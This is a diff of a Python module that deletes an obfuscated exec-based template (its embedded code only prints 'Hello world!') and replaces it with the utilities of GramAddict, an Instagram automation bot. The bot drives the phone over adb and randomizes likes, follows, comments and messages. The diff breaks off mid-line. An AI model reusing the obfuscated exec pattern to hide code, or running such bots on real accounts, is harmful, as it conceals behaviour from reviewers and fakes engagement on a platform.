@@ -1,120 +1,977 @@
-from builtins import *
-from math import prod as Invert
+import atexit
+import io
+import logging
+import os
+import queue
+import random
+import re
+import shutil
+import subprocess
+import sys
+import threading
+import time
+import zipfile
+from collections import Counter, deque
+from datetime import datetime, timedelta
+from os import getcwd, rename, walk
+from pathlib import Path
+from random import randint, shuffle, uniform
+from subprocess import PIPE
+from typing import Optional, Tuple, Union
+from urllib.parse import urlparse
 
+from colorama import Fore, Style
 
-__obfuscator__ = 'Deluxe'
-__authors__ = "SadHam"
-__github__ = 'https://github.com/'
-__discord__ = 'https://discord.gg/'
-__license__ = 'EPL-2.0'
+from GramAddict import __file__
+from GramAddict.core.config import Config, RangeValue
+from GramAddict.core.imports import lazy_import
+from GramAddict.core.log import Event, emit_event, flush_logs, get_log_file_config
+from GramAddict.core.report import persist_sessions, print_full_report
+from GramAddict.core.resources import ResourceID as resources
+from GramAddict.core.rpc_stats import SLEEP, rpc_stats
+from GramAddict.core.storage import ACCOUNTS
+from GramAddict.version import __version__
 
-__code__ = 'print("Hello world!")'
+emoji = lazy_import("emoji")
+requests = lazy_import("requests")
+urllib3 = lazy_import("urllib3")
 
+logger = logging.getLogger(__name__)
 
-Math, _floor, _negative, Algorithm, Negative, _statistics, _stackoverflow = exec, str, tuple, map, ord, globals, type
+CRASHES_FOLDER = "crashes"
+CRASH_QUEUE_SIZE = 3
+# seconds the bot waits at exit for the crash archives still being written
+CRASH_ARCHIVE_EXIT_TIMEOUT = 30
+# seconds to connect to and to read from GitHub when looking for a new version
+UPDATE_CHECK_TIMEOUT = 10
 
 
-class _power:
-    def __init__(self, DetectVar):
-        self._frame = Invert((DetectVar, -53499))
-        self._product(_callfunction=32330)
+class Clock:
+    """
+    Every deliberate delay of the bot and every scheduling decision
+    (working hours, time between sessions) goes through the clock,
+    so that it can be replaced with a VirtualClock.
+    """
 
-    def _product(self, _callfunction=int):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        self._frame /= 23350 + _callfunction
+    def sleep(self, seconds: float) -> None:
+        time.sleep(seconds)
 
+    def time(self) -> float:
+        return time.time()
+
+    def now(self) -> datetime:
+        return datetime.now()
+
+
+class VirtualClock(Clock):
+    """
+    Doesn't wait at all: time moves forward by the amount of every requested delay.
+    The delays are recorded, so their distribution can be checked after a simulation.
+    """
+
+    # upper bounds of the delay buckets, in seconds
+    BUCKETS = (1, 3, 10, 60, 600, 3600)
+
+    def __init__(self, start: Optional[datetime] = None):
+        self.slept = 0.0
+        self.count = 0
+        self.delays = Counter()
+        self._start = datetime.now() if start is None else start
+
+    def sleep(self, seconds: float) -> None:
+        seconds = max(seconds, 0)
+        self.slept += seconds
+        self.count += 1
+        bucket = next((b for b in self.BUCKETS if seconds <= b), None)
+        self.delays[f"<={bucket}s" if bucket else f">{self.BUCKETS[-1]}s"] += 1
+
+    def time(self) -> float:
+        return self._start.timestamp() + self.slept
+
+    def now(self) -> datetime:
+        return self._start + timedelta(seconds=self.slept)
+
+    def distribution(self) -> dict:
+        return {
+            "count": self.count,
+            "slept_s": round(self.slept, 3),
+            "delays": dict(self.delays),
+        }
+
+
+clock = Clock()
+
+
+def set_clock(new_clock: Clock) -> Clock:
+    """
+    Replaces the clock used by the bot and returns the previous one.
+    """
+    global clock
+    previous, clock = clock, new_clock
+    return previous
+
+
+def sleep(seconds: float) -> None:
+    clock.sleep(seconds)
+
+
+def now() -> datetime:
+    return clock.now()
+
+
+def load_config(config: Config):
+    global app_id
+    global args
+    global configs
+    global ResourceID
+    app_id = config.args.app_id
+    args = config.args
+    configs = config
+    ResourceID = resources(app_id)
+
+
+def update_available():
+    urllib3.disable_warnings()
+    if "b" not in __version__:
+        version_request = "https://raw.githubusercontent.com/GramAddict/bot/master/GramAddict/version.py"
+    else:
+        version_request = "https://raw.githubusercontent.com/GramAddict/bot/develop/GramAddict/version.py"
+    try:
+        r = requests.get(version_request, verify=True, timeout=UPDATE_CHECK_TIMEOUT)
+        online_version_raw = r.text.split('"')[1]
+
+    except Exception as e:
+        logger.error(
+            f"There was an error retrieving the latest version of GramAddict: {e}"
+        )
+        return False, False
+    if "b" not in __version__:
+        local_version = __version__.split(".")
+        online_version = online_version_raw.split(".")
+    else:
+        local_version = __version__.split(".")[:-1] + __version__.split(".")[-1].split(
+            "b"
+        )
+        online_version = online_version_raw.split(".")[:-1] + online_version_raw.split(
+            "."
+        )[-1].split("b")
+    for n in range(len(online_version)):
+        if int(online_version[n]) > int(local_version[n]):
+            return True, online_version_raw
+        if int(online_version[n]) == int(local_version[n]):
+            continue
+        break
+    return False, online_version_raw
+
+
+def check_if_updated(crash=False):
+    if not crash:
+        logger.info("Checking for updates...")
+    new_update, version = update_available()
+    if new_update:
+        logger.warning("NEW VERSION FOUND!")
+        logger.warning(
+            f"Version {version} has been released! Please update so that you can get all the latest features and bugfixes. Changelog here -> https://github.com/GramAddict/bot/blob/master/CHANGELOG.md"
+        )
+        logger.warning("HOW TO UPDATE:")
+        logger.warning("If you installed with pip: pip3 install GramAddict -U")
+        logger.warning("If you installed with git: git pull")
+        sleep(5)
+    elif not crash:
+        logger.info("Bot is updated.", extra={"color": f"{Style.BRIGHT}"})
+    if not crash:
+        logger.info(
+            f"GramAddict v.{__version__}",
+            extra={"color": f"{Style.BRIGHT}{Fore.MAGENTA}"},
+        )
+
+
+def ask_for_a_donation():
+    logger.info(
+        "This bot is backed with love by me for free. If you like using it, consider donating to help keep me motivated: https://www.buymeacoffee.com/mastrolube",
+        extra={"color": f"{Style.BRIGHT}{Fore.MAGENTA}"},
+    )
+
+
+def move_usernames_to_accounts():
+    Path(ACCOUNTS).mkdir(parents=True, exist_ok=True)
+    ls = next(walk("."))[1]
+    ignored_dir = [
+        "__pycache__",
+        "build",
+        "accounts",
+        "GramAddict",
+        "config-examples",
+        ".git",
+        ".venv",
+        "dist",
+        ".vscode",
+        ".github",
+        "crashes",
+        "gramaddict.egg-info",
+        "logs",
+        "res",
+        "test",
+        "dump",
+    ]
+    for n in ignored_dir:
         try:
-            ({_negative: _negative} or _negative if {_negative: _negative}
-             and _negative else ... or (_negative, {_negative: _negative}))
+            ls.remove(n)
+        except ValueError:
+            pass
+
+    for dir in ls:
+        try:
+            if dir != dir.strip():
+                rename(f"{dir}", dir.strip())
+            shutil.move(dir.strip(), ACCOUNTS)
+        except Exception as e:
+            logger.error(
+                f"Folder {dir.strip()} already exists! Won't overwrite it, please check which is the correct one and delete the other! Exception: {e}"
+            )
+            sleep(3)
+    if len(ls) > 0:
+        logger.warning(
+            f"Username folders {', '.join(ls)} have been moved to main folder 'accounts'. Remember that your config file must point there! Example: '--config accounts/yourusername/config.yml'"
+        )
+
+
+def config_examples():
+    if getcwd() == __file__[:-23]:
+        logger.debug("Installed via git, config-examples is in the local folder.")
+    else:
+        logger.debug("Installed via pip.")
+        logger.info(
+            "Do you want to update/create your config-examples folder in local? Do the following: \n\t\t\t\tpip3 install --user gitdir (only the first time)\n\t\t\t\tpython3 -m gitdir https://github.com/GramAddict/bot/tree/master/config-examples (python on Windows)",
+            extra={"color": Fore.GREEN},
+        )
+        sleep(3)
 
-        except ArithmeticError:
-            ((Negative, Algorithm) or _negative if (Negative, Algorithm)
-             and _negative else ... or (_negative, (Negative, Algorithm)))
 
-        except:
-            _stackoverflow(33417 - -98318) == bool
+def check_adb_connection():
+    is_device_id_provided = configs.device_id is not None
+    # sometimes it needs two requests to wake up...
+    stream = os.popen("adb devices")
+    stream.close()
+    stream = os.popen("adb devices")
+    output = stream.read()
+    devices_count = len(re.findall("device\n", output))
+    stream.close()
 
-    def _system(self, _round=-62334):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        _round /= -81112 / 98863
-        self.Ceil != False
+    is_ok = True
+    message = "That's ok."
+    if devices_count == 0:
+        is_ok = False
+        message = "Cannot proceed."
+    elif devices_count > 1 and not is_device_id_provided:
+        is_ok = False
+        message = "Set a device name in your config.yml"
 
+    if is_ok:
+        logger.debug(f"Connected devices via adb: {devices_count}. {message}")
+    else:
+        logger.error(f"Connected devices via adb: {devices_count}. {message}")
+
+    return is_ok
+
+
+def get_instagram_version():
+    stream = os.popen(
+        f"adb{'' if configs.device_id is None else f' -s {configs.device_id}'} shell dumpsys package {app_id}"
+    )
+
+    output = stream.read()
+    version_match = re.findall("versionName=(\\S+)", output)
+    version = version_match[0] if len(version_match) == 1 else "not found"
+    stream.close()
+    return version
+
+
+def open_instagram_with_url(url) -> bool:
+    logger.info(f"Open Instagram app with url: {url}")
+    cmd = f"adb{'' if configs.device_id is None else f' -s {configs.device_id}'} shell am start -a android.intent.action.VIEW -d {url}"
+
+    cmd_res = subprocess.run(cmd, stdout=PIPE, stderr=PIPE, shell=True, encoding="utf8")
+    err = cmd_res.stderr.strip()
+    random_sleep()
+    if err:
+        logger.debug(err)
+        return False
+    return True
+
+
+def kill_app(device, app_id):
+    device.deviceV2.app_stop(app_id)
+
+
+def head_up_notifications(enabled: bool = False):
+    """
+    Enable or disable head-up-notifications
+    """
+    cmd: str = f"adb{'' if configs.device_id is None else f' -s {configs.device_id}'} shell settings put global heads_up_notifications_enabled {1 if enabled else 0}"
+    return subprocess.run(cmd, stdout=PIPE, stderr=PIPE, shell=True, encoding="utf8")
+
+
+def check_screen_timeout():
+    MIN_TIMEOUT = 5 * 6_000
+    cmd: str = f"adb{'' if configs.device_id is None else f' -s {configs.device_id}'} shell settings get system screen_off_timeout"
+
+    resp = subprocess.run(cmd, stdout=PIPE, stderr=PIPE, shell=True, encoding="utf8")
+    if int(resp.stdout.lstrip()) < MIN_TIMEOUT:
+        logger.info(
+            f"Setting timeout of the screen to {MIN_TIMEOUT/6_000:.0f} minutes."
+        )
+        cmd: str = f"adb{'' if configs.device_id is None else f' -s {configs.device_id}'} shell settings put system screen_off_timeout {MIN_TIMEOUT}"
+
+        subprocess.run(cmd, stdout=PIPE, stderr=PIPE, shell=True, encoding="utf8")
+    else:
+        logger.info("Screen timeout is fine!")
+
+
+def open_instagram(device):
+    nl = "\n"
+    FastInputIME = "com.github.uiautomator/.FastInputIME"
+    logger.info("Open Instagram app.")
+
+    def call_ig():
+        cmd_ig: str = f"adb{'' if configs.device_id is None else f' -s {configs.device_id}'} shell am start {'--user 999' if configs.args.cloned_app_mode == '2' else ''} -n {app_id}/com.instagram.mainactivity.MainActivity"
+        return subprocess.run(
+            cmd_ig, stdout=PIPE, stderr=PIPE, shell=True, encoding="utf8"
+        )
+
+    with rpc_stats.measure("app_start"):
+        err = call_ig().stderr.strip()
+    if "Error" in err:
+        logger.error(err.replace(nl, ". "))
+        return False
+    elif "more than one device/emulator" in err:
+        logger.error(
+            f"{err[9:].capitalize()}, specify only one by using `device: devicename` in your config.yml"
+        )
+        return False
+    elif err == "":
+        logger.debug("Instagram called successfully.")
+    else:
+        logger.debug(f"{err.replace('Warning: ', '')}.")
+
+    max_tries = 3
+    n = 0
+    while device.deviceV2.app_current()["package"] != app_id:
+        if n == max_tries:
+            logger.critical(
+                f"Unable to open Instagram. Bot will stop. Current package name: {device.deviceV2.app_current()['package']} (Looking for {app_id})"
+            )
+            return False
+        n += 1
+        logger.info(f"Waiting for Instagram to open... 😴 ({n}/{max_tries})")
+        if check_if_crash_popup_is_there(device):
+            logger.info("Ig crashed, try to open it again...")
+        call_ig()
+        choose_cloned_app(device)
+        skip_smart_lock(device)
+        random_sleep(3, 3, modulable=False)
+
+    logger.info("Ready for botting!🤫", extra={"color": f"{Style.BRIGHT}{Fore.GREEN}"})
+
+    random_sleep()
+    if configs.args.close_apps:
+        logger.info("Close all the other apps, to avoid interferences...")
+        app_closed = device.deviceV2.app_stop_all(excludes=[app_id])
+        logger.info(f"{', '.join(app_closed)} have been closed!")
+        random_sleep()
+    logger.debug("Setting FastInputIME as default keyboard.")
+    device.deviceV2.set_fastinput_ime(True)
+    cmd: str = f"adb{'' if configs.device_id is None else f' -s {configs.device_id}'} shell settings get secure default_input_method"
+
+    cmd_res = subprocess.run(cmd, stdout=PIPE, stderr=PIPE, shell=True, encoding="utf8")
+    if cmd_res.stdout.replace(nl, "") != FastInputIME:
+        logger.warning(
+            f"FastInputIME is not the default keyboard! Default is: {cmd_res.stdout.replace(nl, '')}. Changing it via adb.."
+        )
+        cmd: str = f"adb{'' if configs.device_id is None else f' -s {configs.device_id}'} shell ime set {FastInputIME}"
+
+        cmd_res = subprocess.run(
+            cmd, stdout=PIPE, stderr=PIPE, shell=True, encoding="utf8"
+        )
+        if cmd_res.stdout.startswith("Error:"):
+            logger.warning(
+                f"{cmd_res.stdout.replace(nl, '')}. It looks like you don't have FastInputIME installed :S"
+            )
+        else:
+            logger.info("FastInputIME is the default keyboard.")
+    else:
+        logger.info("FastInputIME is the default keyboard.")
+    if configs.args.screen_record:
         try:
-            (((Algorithm, Algorithm, Algorithm), Math)
-             for Math in (_negative, _while, Negative))
+            device.start_screenrecord()
+        except Exception as e:
+            logger.error(
+                f"You can't use this feature without installing dependencies. Type that in console: 'pip3 install -U \"uiautomator2[image]\" -i https://pypi.doubanio.com/simple'. Exception: {e}"
+            )
+    return True
+
+
+def close_instagram(device):
+    logger.info("Close Instagram app.")
+    device.deviceV2.app_stop(app_id)
+    random_sleep(5, 5, modulable=False)
+    if configs.args.screen_record:
+        try:
+            device.stop_screenrecord(crash=False)
+        except Exception as e:
+            logger.error(
+                f"You can't use this feature without installing dependencies. Type that in console: 'pip3 install -U \"uiautomator2[image]\" -i https://pypi.doubanio.com/simple'. Exception: {e}"
+            )
+
+
+def check_if_crash_popup_is_there(device) -> bool:
+    obj = device.find(resourceId=ResourceID.CRASH_POPUP)
+    if obj.exists():
+        obj.click()
+        return True
+    return False
+
+
+def skip_smart_lock(device) -> None:
+    """skip google smart lock"""
+    if device.find(
+        resourceId="com.google.android.gms:id/credential_picker_layout"
+    ).exists(ui_timeout=3):
+        cancel_btn = device.find(resourceId="com.google.android.gms:id/cancel")
+        cancel_btn.click()
+
 
-        except TypeError:
-            (((_negative, _while, Negative), _negative)
-             for _negative in (Negative, Algorithm))
+def show_ending_conditions():
+    end_likes = configs.args.end_if_likes_limit_reached
+    end_follows = configs.args.end_if_follows_limit_reached
+    end_watches = configs.args.end_if_watches_limit_reached
+    end_comments = configs.args.end_if_comments_limit_reached
+    end_pm = configs.args.end_if_pm_limit_reached
+    logger.info(
+        "-" * 70,
+        extra={"color": f"{Style.BRIGHT}{Fore.YELLOW}"},
+    )
+    logger.info(
+        f"{'Session ending conditions:':<35} Value",
+        extra={"color": f"{Style.BRIGHT}{Fore.YELLOW}"},
+    )
+    logger.info(
+        "-" * 70,
+        extra={"color": f"{Style.BRIGHT}{Fore.YELLOW}"},
+    )
+    logger.info(
+        f"{'Likes:':<35} {end_likes}",
+        extra={"color": f"{Style.BRIGHT}{Fore.GREEN if end_likes else Fore.RED}"},
+    )
+    logger.info(
+        f"{'Follows:':<35} {end_follows}",
+        extra={"color": f"{Style.BRIGHT}{Fore.GREEN if end_follows else Fore.RED}"},
+    )
+    logger.info(
+        f"{'Watches:':<35} {end_watches}",
+        extra={"color": f"{Style.BRIGHT}{Fore.GREEN if end_watches else Fore.RED}"},
+    )
+    logger.info(
+        f"{'Comments:':<35} {end_comments}",
+        extra={"color": f"{Style.BRIGHT}{Fore.GREEN if end_comments else Fore.RED}"},
+    )
+    logger.info(
+        f"{'PM:':<35} {end_pm}",
+        extra={"color": f"{Style.BRIGHT}{Fore.GREEN if end_pm else Fore.RED}"},
+    )
+    logger.info(
+        f"{'Total actions:':<35} True (not mutable)",
+        extra={"color": f"{Style.BRIGHT}{Fore.GREEN}"},
+    )
+    logger.info(
+        f"{'Total successfull actions:':<35} True (not mutable)",
+        extra={"color": f"{Style.BRIGHT}{Fore.GREEN}"},
+    )
+    logger.info(
+        "For more info -> https://github.com/GramAddict/docs/blob/main/configuration.md#ending-session-conditions",
+        extra={"color": f"{Style.BRIGHT}{Fore.BLUE}"},
+    )
+    logger.info(
+        "-" * 70,
+        extra={"color": f"{Style.BRIGHT}{Fore.YELLOW}"},
+    )
 
-        except:
-            _stackoverflow(-2797 / 58716) == Ellipsis
 
-    def _hypothesis(_detectvar=bool):
-        return _statistics()[_detectvar]
+def countdown(timeout: int = 10, waiting_message: str = "") -> None:
+    if not waiting_message:
+        waiting_message = "Waiting {:02d} seconds..."
+    multiplier = 60 if "minutes" in waiting_message else 1
+    while timeout:
+        print(Fore.RED + waiting_message.format(timeout), end="\r")
+        sleep(multiplier)
+        timeout -= 1
+    print(Fore.RESET, end="\r")
 
-    def Absolute(_memoryaccess=37274 * 36872, System=None, _math=_statistics):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        _math()[_memoryaccess] = System
 
+def choose_cloned_app(device) -> None:
+    """if dialog box is displayed choose for original or cloned app"""
+    app_number = "2" if configs.args.cloned_app_mode == "1" else "1"
+    obj = device.find(resourceId=f"{ResourceID.MIUI_APP}{app_number}")
+    if obj.exists(3):
+        logger.debug(f"Cloned app menu exists. Pressing on app number {app_number}.")
+        obj.click()
+
+
+def pre_post_script(path: str, pre: bool = True):
+    if path is not None:
+        if os.path.isfile(path):
+            logger.info(f"Running '{path}' as {'pre' if pre else 'post'} script.")
+            try:
+                p1 = subprocess.Popen(path)
+                p1.wait()
+            except Exception as ex:
+                logger.error(f"This exception has occurred: {ex}")
+        else:
+            logger.error(
+                f"File '{path}' not found. Check your spelling. (The start point for relative paths is this: '{os.getcwd()}')."
+            )
+
+
+def kill_atx_agent(device):
+    _restore_keyboard(device)
+    logger.info("Kill atx agent.")
+    cmd: str = f"adb{'' if configs.device_id is None else f' -s {configs.device_id}'} shell pkill atx-agent"
+    subprocess.run(cmd, stdout=PIPE, stderr=PIPE, shell=True, encoding="utf8")
+
+
+def _restore_keyboard(device):
+    logger.debug("Back to default keyboard!")
+    device.deviceV2.set_fastinput_ime(False)
+
+
+def random_sleep(inf=0.5, sup=3.0, modulable=True, log=True):
+    MIN_INF = 0.3
+    multiplier = float(args.speed_multiplier)
+    delay = uniform(inf, sup) / (multiplier if modulable else 1.0)
+    delay = max(delay, MIN_INF)
+    if log:
+        logger.debug(f"{str(delay)[:4]}s sleep")
+    sleep(delay)
+    rpc_stats.record(SLEEP, delay)
+
+
+class CrashArchiver:
+    """
+    Writes the crash archives in a background thread, so that the session goes
+    on as soon as the screen has been captured. The queue is bounded: when the
+    bot crashes faster than the archives are written, the new crashes are dropped.
+    """
+
+    def __init__(self):
+        self.queue = queue.Queue(maxsize=CRASH_QUEUE_SIZE)
+        self.thread = None
+
+    def submit(self, crash: dict) -> bool:
+        if self.thread is None:
+            self.thread = threading.Thread(
+                target=self._run, name="crash-archiver", daemon=True
+            )
+            self.thread.start()
+            # write the queued crashes before the bot exits
+            atexit.register(self.wait, CRASH_ARCHIVE_EXIT_TIMEOUT)
+        try:
+            self.queue.put_nowait(crash)
+        except queue.Full:
+            return False
+        return True
+
+    def wait(self, timeout: float) -> bool:
+        """
+        Waits for the queued crashes to be written, at most timeout seconds.
+        """
+        deadline = time.monotonic() + timeout
+        while self.queue.unfinished_tasks and time.monotonic() < deadline:
+            time.sleep(0.1)
+        if self.queue.unfinished_tasks:
+            logger.warning(
+                f"{self.queue.unfinished_tasks} crash(es) not saved after {timeout}s, exit anyway."
+            )
+            return False
+        return True
+
+    def _run(self):
+        while True:
+            crash = self.queue.get()
+            try:
+                write_crash_archive(**crash)
+            except Exception as e:
+                logger.error(f"Cannot save the crash {crash['crash_path']}: {e}")
+            finally:
+                self.queue.task_done()
+
+
+crash_archiver = CrashArchiver()
+
+
+def save_crash(device):
+    """
+    Captures the screen synchronously, the archive is written by crash_archiver.
+    """
+    directory_name = f"{__version__}_" + datetime.now().strftime("%Y-%m-%d-%H-%M-%S")
+    crash_path = os.path.join(CRASHES_FOLDER, directory_name)
+    if os.path.exists(f"{crash_path}.zip"):
+        logger.error(f"Crash {directory_name} already exists.")
+        return
+    os.makedirs(CRASHES_FOLDER, exist_ok=True)
+    crash = {"crash_path": crash_path, "screenshot": None, "hierarchy": None}
+    try:
+        crash["hierarchy"] = device.dump_hierarchy()
+    except RuntimeError:
+        logger.error("Cannot save 'hierarchy.xml'.")
+    try:
+        # the image is only encoded when it's written in the archive
+        crash["screenshot"] = device.screenshot()
+    except RuntimeError:
+        logger.error("Cannot save 'screenshot.png'.")
+    if args.screen_record:
+        try:
+            device.stop_screenrecord(crash=True)
+        except Exception as e:
+            logger.error(
+                f"You can't use this feature without installing dependencies. Type that in console: 'pip3 install -U \"uiautomator2[image]\" -i https://pypi.doubanio.com/simple'. Exception: {e}"
+            )
+        files = [f for f in os.listdir("./") if f.endswith(".mp4")]
+        try:
+            os.replace(files[-1], f"{crash_path}.mp4")
+            crash["video"] = f"{crash_path}.mp4"
+        except (FileNotFoundError, IndexError):
+            logger.error("File *.mp4 not found!")
+    flush_logs()
+    g_log_file_name, g_logs_dir, _, _ = get_log_file_config()
+    crash["log_file"] = os.path.join(g_logs_dir, g_log_file_name)
+    # only the lines logged until now, the bot keeps logging while we write
+    crash["log_size"] = os.path.getsize(crash["log_file"])
+    if not crash_archiver.submit(crash):
+        logger.warning(
+            f"Too many crashes are being saved, {directory_name} won't be saved."
+        )
+        if "video" in crash:
+            os.remove(crash["video"])
+    if args.screen_record:
+        try:
+            device.start_screenrecord()
+        except Exception as e:
+            logger.error(
+                f"You can't use this feature without installing dependencies. Type that in console: 'pip3 install -U \"uiautomator2[image]\" -i https://pypi.doubanio.com/simple'. Exception: {e}"
+            )
+
+
+def write_crash_archive(
+    crash_path: str,
+    screenshot,
+    hierarchy: Optional[str],
+    log_file: str,
+    log_size: int,
+    video: Optional[str] = None,
+) -> None:
+    with zipfile.ZipFile(f"{crash_path}.zip", "w", zipfile.ZIP_DEFLATED) as archive:
+        if screenshot is not None:
+            image = io.BytesIO()
+            screenshot.save(image, format="png")
+            # png and mp4 are already compressed
+            archive.writestr("screenshot.png", image.getvalue(), zipfile.ZIP_STORED)
+        if hierarchy is not None:
+            archive.writestr("hierarchy.xml", hierarchy)
+        if video is not None:
+            archive.write(video, "video.mp4", zipfile.ZIP_STORED)
+        archive.writestr("logs.txt", trim_txt(log_file, log_size))
+    if video is not None:
+        os.remove(video)
+    logger.info(
+        f"Crash saved as {crash_path}.zip",
+        extra={"color": Fore.GREEN},
+    )
+    logger.info(
+        "If you want to report this crash, please upload the dump file via a ticket in the #lobby channel on discord ",
+        extra={"color": Fore.GREEN},
+    )
+    logger.info("https://discord.gg/66zWWCDM7x\n", extra={"color": Fore.GREEN})
+    prune_crashes(int(args.crashes_to_keep))
+    check_if_updated(crash=True)
+
+
+def prune_crashes(keep: int) -> None:
+    """Deletes the oldest crash archives, keeps the last ones"""
+    archives = sorted(
+        (entry for entry in os.scandir(CRASHES_FOLDER) if entry.name.endswith(".zip")),
+        key=lambda entry: entry.stat().st_mtime,
+    )
+    for entry in archives[: max(len(archives) - keep, 0)]:
+        try:
+            os.remove(entry.path)
+        except OSError as e:
+            logger.debug(f"Cannot delete the old crash {entry.name}: {e}")
+
+
+def trim_txt(source: str, size: int) -> str:
+    """
+    The lines logged since the bot started, or the last 250 lines, among the
+    first size bytes of the log (its size when the bot crashed).
+    """
+    last_lines = deque(maxlen=250)
+    since_start = None
+    position = 0
+    with open(source, "rb") as f:
+        for line in f:
+            position += len(line)
+            if position > size:
+                break
+            if b"Arguments used:" in line:
+                since_start = []
+            elif since_start is not None:
+                since_start.append(line)
+            last_lines.append(line)
+    return b"".join(since_start or last_lines).decode("utf-8", errors="replace")
+
+
+def stop_bot(device, sessions, session_state, was_sleeping=False):
+    close_instagram(device)
+    kill_atx_agent(device)
+    head_up_notifications(enabled=True)
+    logger.info(
+        f"-------- FINISH: {now().strftime('%H:%M:%S')} --------",
+        extra={"color": f"{Style.BRIGHT}{Fore.YELLOW}"},
+    )
+    emit_event(
+        Event.SESSION_FINISH,
+        session_id=None if session_state is None else session_state.id,
+        finish_time=now(),
+        stopped=True,
+    )
+    if session_state is not None:
+        print_full_report(sessions, configs.args.scrape_to_file)
+        if not was_sleeping:
+            persist_sessions(sessions, session_state)
+    ask_for_a_donation()
+    sys.exit(2)
+
+
+def can_repeat(current_session, max_sessions: int) -> bool:
+    if max_sessions == -1:
+        return True
+    logger.info(
+        f"You completed {current_session} session(s). {max_sessions-current_session} session(s) left.",
+        extra={"color": f"{Style.BRIGHT}{Fore.YELLOW}"},
+    )
+    if current_session < max_sessions:
+        return True
+    logger.info(
+        "You reached the total-sessions limit! Finish.",
+        extra={"color": f"{Style.BRIGHT}{Fore.YELLOW}"},
+    )
+    return False
+
+
+def get_value(
+    count: str,
+    name: Optional[str],
+    default: Optional[Union[int, float]] = 0,
+    its_time: bool = False,
+) -> Optional[Union[int, float]]:
+    def print_error() -> None:
+        logger.error(
+            f'Using default value instead of "{count}", because it must be '
+            "either a number (e.g. 2) or a range (e.g. 2-4)."
+        )
+
+    if count is None:
+        return None
+    if isinstance(count, RangeValue):
+        # compiled by the config
+        value = count.sample(its_time)
+    else:
         try:
-            ((_negative, _while, Negative) or Math if (_negative, _while, Negative)
-             and Math else ... or (Math, (_negative, _while, Negative)))
+            if "." in count:
+                value = float(count)
+            else:
+                value = int(count)
+        except ValueError:
+            parts = count.split("-")
+            if len(parts) == 2:
+                if not its_time:
+                    value = randint(int(parts[0]), int(parts[1]))
+                else:
+                    value = round(uniform(int(parts[0]), int(parts[1])), 2)
+            else:
+                value = default
+                print_error()
+    if name is not None:
+        logger.info(name.format(value), extra={"color": Style.BRIGHT})
+    return value
+
+
+def validate_url(x) -> bool:
+    try:
+        result = urlparse(x)
+        return all([result.scheme, result.netloc, result.path])
+    except Exception as e:
+        logger.error(f"Error validating URL {x}. Error: {e}")
+        return False
+
+
+def append_to_file(filename: str, username: str) -> None:
+    try:
+        if not filename.lower().endswith(".txt"):
+            filename += ".txt"
+        with open(filename, "a+", encoding="utf-8") as file:
+            file.write(username + "\n")
+    except Exception as e:
+        logger.error(f"Failed to append {username} to: {filename}. Exception: {e}")
+
+
+def sample_sources(sources, n_sources):
+    from random import sample
+
+    sources_limit_input = n_sources.split("-")
+    if len(sources_limit_input) > 1:
+        sources_limit = randint(
+            int(sources_limit_input[0]), int(sources_limit_input[1])
+        )
+    else:
+        sources_limit = int(sources_limit_input[0])
+    if len(sources) < sources_limit:
+        sources_limit = len(sources)
+    if sources_limit == 0:
+        truncaded = sources
+        shuffle(truncaded)
+    else:
+        truncaded = sample(sources, sources_limit)
+        logger.info(
+            f"Source list truncated at {len(truncaded)} {'item' if len(truncaded)<=1 else 'items'}."
+        )
+    logger.info(
+        f"In this session, {'that source' if len(truncaded)<=1 else 'these sources'} will be handled: {', '.join(emoji.emojize(str(x), use_aliases=True) for x in truncaded)}"
+    )
+    return truncaded
+
 
-        except AssertionError:
-            ({_negative: _negative} or _while if {_negative: _negative}
-             and _while else ... or (_while, {_negative: _negative}))
+def random_choice(number: int) -> bool:
+    """
+    Generate a random int and compare with the argument passed
+    :param int number: number passed
+    :return: is argument greater or equal then a random generated number
+    :rtype: bool
+    """
+    return number >= randint(1, 100)
 
-        except:
-            _stackoverflow(32683 / -3683) == Ellipsis
 
-    def execute(code=str):
-        return Math(_floor(_negative(Algorithm(Negative, code))))
+def init_on_things(source, args, sessions, session_state):
+    from functools import partial
 
-    @property
-    def Ceil(self):
-        self._ceil = '<__main__._round object at 0x000008790BE16082>'
-        return (self._ceil, _power.Ceil)
+    from GramAddict.core.interaction import _on_interaction
 
+    on_interaction = partial(
+        _on_interaction,
+        likes_limit=args.current_likes_limit,
+        source=source,
+        interactions_limit=get_value(
+            args.interactions_count, "Interactions count: {}", 70
+        ),
+        sessions=sessions,
+        session_state=session_state,
+        args=args,
+    )
 
-if True:
+    if args.stories_count != "0":
+        stories_percentage = get_value(
+            args.stories_percentage, "Chance of watching stories: {}%", 40
+        )
+    else:
+        stories_percentage = 0
+
+    likes_percentage = get_value(args.likes_percentage, "Chance of liking: {}%", 100)
+    follow_percentage = get_value(
+        args.follow_percentage, "Chance of following: {}%", 40
+    )
+    comment_percentage = get_value(
+        args.comment_percentage, "Chance of commenting: {}%", 0
+    )
+    interact_percentage = get_value(
+        args.interact_percentage, "Chance of interacting: {}%", 40
+    )
+    pm_percentage = get_value(args.pm_percentage, "Chance of send PM: {}%", 0)
+
+    return (
+        on_interaction,
+        stories_percentage,
+        likes_percentage,
+        follow_percentage,
+        comment_percentage,
+        pm_percentage,
+        interact_percentage,
+    )
+
+
+def set_time_delta(args):
+    time_delta = get_value(args.time_delta, None, 0)
+    if time_delta:
+        args.time_delta_session = (
+            time_delta * (1 if random.random() < 0.5 else -1) * 60
+        ) + random.randint(0, 59)
+        m, s = divmod(abs(args.time_delta_session), 60)
+        h, m = divmod(m, 60)
+        logger.info(
+            f"Time delta has set to {'' if args.time_delta_session >0 else '-'}{h:02d}:{m:02d}:{s:02d}."
+        )
+    else:
+        args.time_delta_session = 0
+
+
+def wait_for_next_session(time_left, session_state, sessions, device):
+    hours, remainder = divmod(time_left.seconds, 3600)
+    minutes, seconds = divmod(remainder, 60)
+    kill_atx_agent(device)
+    logger.info(
+        f'Next session will start at: {(now()+ time_left).strftime("%H:%M:%S (%Y/%m/%d)")}.',
+        extra={"color": f"{Fore.GREEN}"},
+    )
+    emit_event(
+        Event.SLEEPING, until=now() + time_left, seconds=time_left.total_seconds()
+    )
+    logger.info(
+        f"Time left: {hours:02d}:{minutes:02d}:{seconds:02d}.",
+        extra={"color": f"{Fore.GREEN}"},
+    )
     try:
-        _power.execute(code=__code__)
-        Divide = _power(DetectVar=-1749 - 94466)
-        if 401534 > 2026245:
